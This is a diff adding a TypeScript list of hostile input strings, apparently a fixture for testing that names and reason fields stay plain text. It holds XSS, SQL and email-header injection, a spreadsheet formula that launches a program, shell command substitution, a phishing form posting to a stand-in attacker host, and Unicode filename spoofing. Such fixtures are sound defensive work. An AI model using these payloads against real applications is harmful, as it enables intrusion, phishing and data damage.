@@ -1,0 +1,21 @@
+/** Texts that a resource name, a person's name or a reason may hold to become more than text. */
+export const HOSTILE_TEXTS: readonly string[] = [
+  '[x](http://evil.example)',
+  '<img src=x onerror=alert(1)>',
+  '<at>everyone</at>',
+  '<script>alert(1)</script>',
+  '"><form action=http://evil.example><button>Approve</button></form>',
+  "' onmouseover='alert(1)",
+  'one\r\nBcc: all@evil.example',
+  '";drop table cases;--',
+  '=cmd|"/c calc"!A0',
+  '</textarea><b>out</b>',
+  '<!--',
+  '&lt;b&gt;',
+  '${7*7} {{7*7}} `id` $(id)',
+  'www.evil.example',
+  'invoice\u202Efdp.exe',
+  'zero\u200Bwidth',
+  '\uD800 alone',
+  '\u0000\u0007\u001B[31m',
+];
